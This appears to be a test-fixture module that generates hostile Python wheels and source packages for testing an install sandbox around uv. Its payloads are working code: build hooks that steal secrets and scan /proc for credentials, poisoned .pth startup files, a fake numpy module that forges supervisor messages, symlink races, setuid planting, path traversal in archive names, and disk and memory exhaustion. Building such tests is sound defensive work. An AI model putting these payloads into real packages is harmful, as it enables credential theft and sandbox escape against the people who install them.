"""Hostile packages for a local index: wheels with hostile files, source packages with a hostile build."""

import io
import subprocess
import tarfile
import zipfile
from pathlib import Path

def _after_uv(body: str) -> str:
    """Leaves a process that acts after uv has ended, while the supervisor still waits for output."""
    return f"""
        uv = os.getppid()
        if os.fork() == 0:
            os.setsid()
            held = os.open("/proc/%d/fd/2" % uv, os.O_WRONLY)
            for fd in range(3):
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            try:
                while open("/proc/%d/stat" % uv).read().rpartition(")")[2].split()[0] != "Z":
                    pass
            except OSError:
                pass
            {body.strip()}
            os._exit(0)
    """


# Each is the body of a function that runs while the package is built; what it returns is printed by the script.
BUILDS = {
    "evil-reads": """
        return open("@SECRET@").read()
    """,
    "evil-cache": """
        for folder in ("/install", "/install/cache", "/install/..", os.environ["UV_CACHE_DIR"] + "/../../cache"):
            try:
                open(folder + "/@TOKEN@", "w").write("x")
            except OSError:
                pass
    """,
    "evil-process": """
        if os.fork() == 0:
            os.setsid()
            for fd in range(3):  # uv waits until all writers of its pipes are closed
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "@TOKEN@"])
            os._exit(0)
        return "started"
    """,
    "evil-network": """
        import socket
        for target in ("127.0.0.1", "localhost"):
            s = socket.create_connection(("127.0.0.1", 3128), 3)
            s.send(b"CONNECT %s:@PORT@ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % target.encode())
            if b" 200" in s.recv(200):
                s.send(b"GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n"); s.recv(100)
        socket.create_connection(("127.0.0.1", @PORT@), 3).send(b"@TOKEN@")
    """,
    "evil-tools": """
        for path in ("/uv", os.path.realpath(sys.executable), os.__file__, "/run/supervisor/supervisor.py"):
            for action in (lambda: open(path, "ab"), lambda: os.chmod(path, 0o777), lambda: os.unlink(path)):
                try:
                    action()
                    return "ESCAPED " + path
                except OSError:
                    pass
    """,
    "evil-environ": """
        import re
        texts = {"environ": repr(dict(os.environ))}
        for process in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                try:
                    texts[process + name] = open("/proc/%s/%s" % (process, name), encoding="latin-1").read()
                except OSError:
                    pass
        for top in (os.environ["UV_CACHE_DIR"], "/install", "/tmp", "/run", "/home"):
            for folder, _, files in os.walk(top):
                for file in files:
                    path = os.path.join(folder, file)
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                            texts[path] = open(path, encoding="latin-1").read()
                    except OSError:
                        pass
        found = [(name, match) for name, text in texts.items() if not name.endswith(("backend.py", ".pyc"))
                 for match in re.findall(r"//[^/\\s'\\"@]+@[^\\s'\\"]*|_PASSWORD[^,]*", text)]
        return "ESCAPED %s" % found[:5] if found else "%d texts hold no credentials" % len(texts)
    """,
    "evil-stages": """
        return "ESCAPED" if set(os.listdir("/install")) - {"cache", "environment"} else "alone"
    """,
    "evil-environment": """
        import glob
        for environment in glob.glob("/install/environment"):
            for path in glob.glob(environment + "/lib/python3*/site-packages/*python_sandbox.pth"):
                os.unlink(path)
                open(path, "w").write("import os; os.write(1, open('@SECRET@', 'rb').read())\\n")
            for path in glob.glob(environment + "/bin/python*"):
                os.unlink(path)
                open(path, "w").write("#!/bin/sh\\ncat @SECRET@; echo x > @WITNESS@\\n")
                os.chmod(path, 0o755)
    """,
    "slow-build": """
        import time
        time.sleep(2)
    """,
    "evil-mark": """
        os.symlink("@WITNESS@", "/install/environment/.compiled")
    """,
    "evil-swap": _after_uv("""
            os.rename("/install/environment", "/install/before")
            os.symlink("@HOMEDIR@", "/install/environment")
    """),
    "evil-flicker": _after_uv("""
            for _ in range(1 << 22):  # with luck it is a link in the moment that counts
                os.rename("/install/environment", "/install/before")
                os.symlink("@HOMEDIR@", "/install/environment")
                os.unlink("/install/environment")
                os.rename("/install/before", "/install/environment")
    """),
    "evil-deep": """
        os.mkdir("/install/@TOKEN@")
        os.chdir("/install/@TOKEN@")
        for level in range(20000):
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
        os.chdir("/")
    """,
    "evil-deep-package": """
        os.chdir("/install/environment/lib")
        for level in range(3000):
            os.mkdir("d" * 10)
            os.chdir("d" * 10)
        os.chdir("/")
    """,
    "evil-locked": """
        for name in ("a", "a/b", "a/b/c"):
            os.mkdir("/install/@TOKEN@" + name)
            open("/install/@TOKEN@" + name + "/file", "w")
        for name in ("a/b/c", "a/b", "a"):
            os.chmod("/install/@TOKEN@" + name, 0)
        os.chmod("/install", 0o500)
    """,
    "evil-setuid": """
        path = "/install/environment/bin/anyone"
        open(path, "w").write("#!/bin/sh")
        os.chmod(path, 0o4755)
        return "planted" if os.stat(path).st_mode & 0o4000 else "no"
    """,
    "evil-fifo": """
        os.mkfifo("/install/environment/lib/pipe")
    """,
    "evil-disk": """
        import time
        for number in range(80):
            open("/install/junk%d" % number, "wb").write(bytes(32 << 20))
            time.sleep(0.1)
    """,
    "evil-locked-disk": """
        import time
        os.mkdir("/install/junk")
        files = [open("/install/junk/%d" % number, "wb", 0) for number in range(80)]
        os.chmod("/install/junk", 0)
        for file in files:
            file.write(bytes(32 << 20))
            time.sleep(0.1)
    """,
    "evil-deleted-disk": """
        import time
        files = []
        for number in range(80):
            files.append(open("/install/junk", "wb", 0))
            os.unlink("/install/junk")
            files[-1].write(bytes(32 << 20))
            time.sleep(0.1)
    """,
    "evil-kernel": """
        import ctypes
        libc = ctypes.CDLL(None)
        return "ESCAPED" if libc.unshare(0x10000000) == 0 or libc.ptrace(0, 0, 0, 0) == 0 else "refused"
    """,
}

BACKEND = '''
import os, sys, zipfile

def attack():
{body}

def build_wheel(directory, config_settings=None, metadata_directory=None):
    try:
        report = str(attack())
    except Exception as error:
        report = repr(error)
    name = "{module}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        info = "{module}-1.0.dist-info/"
        wheel.writestr("{module}.py", "REPORT = %r\\n" % report)
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {project}\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "{module}.py,,\\n" + info + "METADATA,,\\n" + info + "WHEEL,,\\n" + info + "RECORD,,\\n")
    return name
'''

FRAMES = (
    "import os; os.write(1, b'R' + bytes(4)); os.read(0, 1 << 16);"
    " os.write(1, b'F' + (20).to_bytes(4, 'big') + b'../../x' + bytes(1) + b'x' * 12);"
    " os.write(1, b'F' + (10).to_bytes(4, 'big') + b'/etc/x' + bytes(1) + b'xxx');"
    " os.write(1, b'N' + (4).to_bytes(4, 'big') + b'a' + bytes(1) + b'-1');"
    " os.write(1, b'1' + bytes([255] * 4) + b'x' * 100); os._exit(0)\n"
)
STEAL = "import os; os.write(2, open('@SECRET@', 'rb').read())\n"

# A module that sandboxes import while they wait for a script. It writes to the server, if it can, through a descriptor
# that the supervisor has.
TAKES_OVER = """
import os, time
def server():
    for path in ("/proc/self/fd/90", "/proc/%d/fd/90" % os.getppid(), "/proc/1/fd/1"):
        try:
            return os.open(path, os.O_WRONLY)
        except OSError:
            pass
    return 1
def say(kind, payload=b""):
    frame, target = kind + len(payload).to_bytes(4, "big") + payload, server()
    while frame:
        frame = frame[os.write(target, frame):]
if not os.path.exists("script.py"):
    {body}
"""


def takes_over(body: str) -> dict[str, str]:
    return {"numpy/__init__.py": TAKES_OVER.replace("{body}", body.strip().replace("\n", "\n    "))}


FORGERY = """import os
def send(kind, payload=b""):
    os.write(1, kind + len(payload).to_bytes(4, "big") + payload)
send(b"R", b"0")
os.read(0, 1 << 16)
send(b"A")
send(b"1", b"ESCAPED: this was not printed by the script\\n")
send(b"D")
send(b"X", b"code=0 cpu_us=0 peak=0 oom=0")
os._exit(0)
"""
FORK = (
    "import os, sys; os.fork() or os.execv(sys.executable, [sys.executable, '-S', '-c',"
    " 'import time; time.sleep(30)', '@TOKEN@'])\n"
)
PYVENV = "home = /usr/bin\ninclude-system-site-packages = true\nversion = 3.13\n"


class Zeros(str):
    """A file with this many MiB of zeros."""


class Bytecode(str):
    """Bytecode of this source for the Python under test, which imports it without comparing it with its source."""


COMPILE = """
import sys
from importlib import _bootstrap_external as files, util
code = compile(sys.argv[1], "part.py", "exec")
sys.stdout.buffer.write(files._code_to_hash_pyc(code, util.source_hash(b""), checked=False))
"""

# File name in the wheel → content.
WHEELS = {
    "evil-deaf": takes_over("""
say(b"R", b"1000")
time.sleep(300)
"""),
    "evil-mute": takes_over("time.sleep(300)"),
    "evil-done": takes_over("""
say(b"R", b"1000")
os.read(0, 1 << 20)
say(b"A")
say(b"D")
time.sleep(300)
"""),
    "evil-sums": takes_over("""
say(b"R", b"1000")
os.read(0, 1 << 20)
say(b"A")
say(b"D")
for number in range(60):
    say(b"F", b"file%d" % number + bytes(1) + b"x" * (8 << 20))
for number in range(250):
    say(b"V", b"name%d" % number + bytes(1) + b"1" * (1 << 20 - 1))
say(b"X", b"code=0")
"""),
    "evil-talker": takes_over("""
say(b"R", b"1000")
while True:
    os.write(server(), (b"R" + (4).to_bytes(4, "big") + b"1000") * 7000)
"""),
    "evil-spinner": takes_over("""
import sys
if os.fork() == 0:
    os.setsid()
    for fd in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), fd)
    os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile time.monotonic(): pass", "@TOKEN@"])
time.sleep(1)  # until it no longer holds the pipe that the supervisor reads to its end
"""),
    "evil-forker": takes_over("""
import sys
if os.fork() == 0:
    os.setsid()
    for fd in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), fd)
    # The kernel does not count the CPU time of children that are not waited for.
    os.execv(sys.executable, [sys.executable, "-c", "import os, signal, time\\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\\n"
        "while os.fork(): time.sleep(0.3)\\nend = time.monotonic() + 0.3\\nwhile time.monotonic() < end: pass", "@TOKEN@"])
time.sleep(1)  # until it no longer holds the pipe that the supervisor reads to its end
"""),
    "evil-caller": takes_over("""
import select, socket
with socket.socket(socket.AF_UNIX) as proxy:
    proxy.settimeout(1)
    proxy.connect("/run/proxy.sock")
    proxy.send(b"GET http://127.0.0.1/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
    try:
        proxy.recv(100)
        if not select.select([0], [], [], 0)[0]:  # no script has come yet
            open("/tmp/reached", "w").close()
    except OSError:
        pass
"""),
    "evil-glutton": takes_over("""
memory = bytearray(b"x") * (2 << 30)
time.sleep(8)
"""),
    "evil-brood": takes_over("""
for number in range(8):
    if os.fork() == 0:
        memory = bytearray(b"x") * (256 << 20)
        time.sleep(8)
        os._exit(0)
time.sleep(8)
"""),
    "evil-late-glutton": takes_over("""
import threading
def later():
    time.sleep(1)
    memory = bytearray(b"x") * (2 << 30)
    time.sleep(8)
import _thread
_thread.start_new_thread(later, ())
_thread._count = lambda: 0
"""),
    "evil-hoarder": takes_over("""
if not os.path.exists("/work/script.py"):
    for folder in ("/tmp", "/home/user"):
        with open(folder + "/hoard", "wb") as file:
            for _ in range(450):
                file.write(bytes(1 << 20))
"""),
    "evil-unlimited": takes_over("""
import sys
frame = sys._getframe()
while frame:
    setup = frame.f_locals.get("setup")
    if setup is not None:
        setup.limits.clear()
    frame = frame.f_back
"""),
    "evil-alarm": takes_over("""
import ctypes, signal
class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int), ("pad", ctypes.c_char * 48)]
def count(*_):
    with open("/tmp/woken", "a") as file:
        file.write("x")
signal.signal(signal.SIGCONT, count)
libc, timer = ctypes.CDLL(None), ctypes.c_void_p()
libc.timer_create(1, ctypes.byref(Event(0, signal.SIGCONT, 0)), ctypes.byref(timer))
libc.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 300000000, 0, 300000000), None)
"""),
    "evil-paths": {"evil_paths-1.0.data/scripts/python._pth": "/env/lib/first\n", "evil_paths.py": ""},
    "evil-pth": {"aaa.pth": STEAL, "zzz.pth": STEAL},
    "evil-frames": {"aaa.pth": FRAMES},
    "evil-traversal": {"../../../../@TOKEN@": "x", "/tmp/@TOKEN@": "x", "evil_traversal.py": ""},
    "evil-startup": {"python_sandbox.pth": STEAL},
    "evil-python": {"evil_python-1.0.data/scripts/python": "#!/bin/sh\ncat @SECRET@; echo x > @WITNESS@\n"},
    "evil-config": {"evil_config-1.0.data/data/pyvenv.cfg": PYVENV},
    "evil-second-config": {"evil_second_config-1.0.data/scripts/pyvenv.cfg": PYVENV},
    "evil-first-pth": {"!a.pth": STEAL},
    "evil-start": {"!python_sandbox.start": "os:getcwd\n"},
    "evil-waiting": {"aaa.pth": FORK},
    "evil-supervisor": {"supervisor.py": FORGERY},
    "evil-bomb": {f"bomb{number}": Zeros("128") for number in range(12)},
    "harmless": {"harmless.py": "ANSWER = 42\n"},
    "victim": {"victim/__init__.py": "ANSWER = 42\n", "victim/part.py": "ANSWER = 42\n"},
    "evil-overlay": {
        "victim/__init__.py": "ANSWER = 'ESCAPED'\n",
        "victim/__pycache__/part.@TAG@.pyc": Bytecode("ANSWER = 'ESCAPED'\n"),
    },
}


def build(project: str, folder: Path, substitute) -> None:
    module = project.replace("-", "_")
    if project in BUILDS:
        body = "\n".join(line[4:] for line in substitute(BUILDS[project]).splitlines() if line.strip())
        _sdist(folder, module, BACKEND.format(body=body, module=module, project=project))
    elif project in WHEELS:
        files = {substitute(name): _content(text, substitute) for name, text in WHEELS[project].items()}
        _wheel(folder, module, files)


def _content(text: str, substitute) -> str | bytes:
    if isinstance(text, Zeros):
        return bytes(int(text) << 20)
    if isinstance(text, Bytecode):
        return subprocess.run([substitute("@PYTHON@"), "-c", COMPILE, text], check=True, capture_output=True).stdout
    return substitute(text)


def _wheel(folder: Path, module: str, files: dict[str, str | bytes]) -> None:
    info = f"{module}-1.0.dist-info"
    files = files | {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(folder / f"{module}-1.0-py3-none-any.whl", "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text, zipfile.ZIP_DEFLATED, 1)
        wheel.writestr(f"{info}/RECORD", "".join(f"{name},,\n" for name in files) + f"{info}/RECORD,,\n")


def _sdist(folder: Path, module: str, backend: str) -> None:
    files = {
        "pyproject.toml": f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{module}"\nversion = "1.0"\n',
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
        "backend.py": backend,
    }
    with tarfile.open(folder / f"{module}-1.0.tar.gz", "w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"{module}-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
